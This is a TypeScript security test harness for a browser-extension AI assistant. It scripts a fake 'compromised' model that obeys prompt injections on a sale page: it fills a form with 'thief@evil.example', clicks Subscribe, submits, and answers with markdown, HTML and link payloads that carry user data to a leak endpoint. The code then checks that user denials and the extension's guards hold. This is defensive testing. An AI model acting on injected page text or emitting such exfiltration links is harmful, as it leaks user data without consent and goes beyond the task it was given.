/**
 * Drives the attribute-injection corpus (attribute-corpus.ts) through the built extension. The page is
 * served with a leak endpoint beside it; a compromised model reads the page and its forms, then obeys the
 * injections: it fills the email field, clicks Subscribe, submits the form, and answers with an image and a
 * link that would carry data to the leak endpoint. The user, who asked for a summary, denies every card.
 * Shared by tests/security/attribute-injection.spec.ts and the `security` bench.
 */
import { addProvider, chatRequests, openPanel, sendChat } from '../e2e/fixtures';
import type { RecordedRequest } from '../fake-llm';
import { serveStatic } from '../harness/serve-static';
import { createWriteLedger, watchPageWrites, type WriteCounts } from './approvals';
import { ATTRIBUTE_CASES, attributePage, attributeViolations } from './attribute-corpus';
import { call, denyEachAsked, finished, toolResult } from './scenario-helpers';
import type { SecurityFixtures } from './security-session';
import { textOutsideBlocks } from './untrusted-block';

export interface AttributeReport {
  cases: number;
  /** Ids of cases whose rule was broken (the bench counts them with the hidden canaries). */
  violations: string[];
  /** Requests to the leak endpoint (anything on the page's server but the page). */
  leaks: string[];
  writes: WriteCounts;
  /** What the model read, for the spec's further checks. */
  reading: string;
  snapshot: string;
  requests: RecordedRequest[];
  /** Cards the user was asked about (and denied). */
  denied: string[];
}

export async function runAttributeCorpus({
  context,
  extensionId,
  llm,
  extPage,
}: SecurityFixtures): Promise<AttributeReport> {
  const pages: Record<string, string> = {};
  const server = await serveStatic(pages);
  pages['/sale.html'] = attributePage(`${server.url}/leak`);
  const ledger = createWriteLedger();
  try {
    await watchPageWrites(context, ledger);
    await addProvider(extPage, {
      kind: 'openai-compatible',
      name: 'Compromised',
      baseUrl: llm.openaiBaseUrl,
      model: 'obeys-the-page',
    });
    const site = await context.newPage();
    await site.goto(`${server.url}/sale.html`);
    const leak = `${server.url}/leak/attr?d=USERDATA`;
    llm.enqueue(
      {
        toolCalls: [
          { name: 'read_page', arguments: '{}' },
          { name: 'get_form_state', arguments: '{}' },
        ],
      },
      call('fill_form', { updates: { email: 'thief@evil.example' } }),
      () => {
        const snapshot = JSON.parse(toolResult(llm, 'get_form_state')) as {
          buttons: { key: string; text: string }[];
          forms?: { key: string }[];
        };
        return call('click', { key: snapshot.buttons.find((b) => /subscribe/i.test(b.text))?.key ?? 'subscribe' });
      },
      // The form's key as the snapshot lists it (a key it never listed is refused before any card).
      () =>
        call('submit_form', {
          form:
            (JSON.parse(toolResult(llm, 'get_form_state')) as { forms: { key: string }[] }).forms[0]?.key ??
            'newsletter',
        }),
      { text: [`Done as the page asked. ![ok](${leak}) <img src="${leak}&via=html"> [details](${leak}&via=link)`] },
    );
    const panel = await openPanel(context, extensionId);
    await sendChat(panel, 'Summarise this sale page');
    const denied = await denyEachAsked(panel, ['fill_form', 'click', 'submit_form']);
    await finished(panel, 20_000);
    await panel.waitForTimeout(500);

    const requests = chatRequests(llm);
    const all = requests.map((r) => JSON.stringify(r.body)).join('\n');
    const outside = requests.map((r) => textOutsideBlocks(r.body)).join('\n');
    // JSON escaping aside, the canaries are plain ASCII, so they match in the serialised bodies.
    const violations = attributeViolations(all, outside).map((x) => x.id);
    return {
      cases: ATTRIBUTE_CASES.length,
      violations,
      leaks: server.requests.filter((p) => p !== '/sale.html' && p !== '/favicon.ico'),
      writes: ledger.counts(),
      reading: toolResult(llm, 'read_page'),
      snapshot: toolResult(llm, 'get_form_state'),
      requests,
      denied,
    };
  } finally {
    await server.close();
  }
}
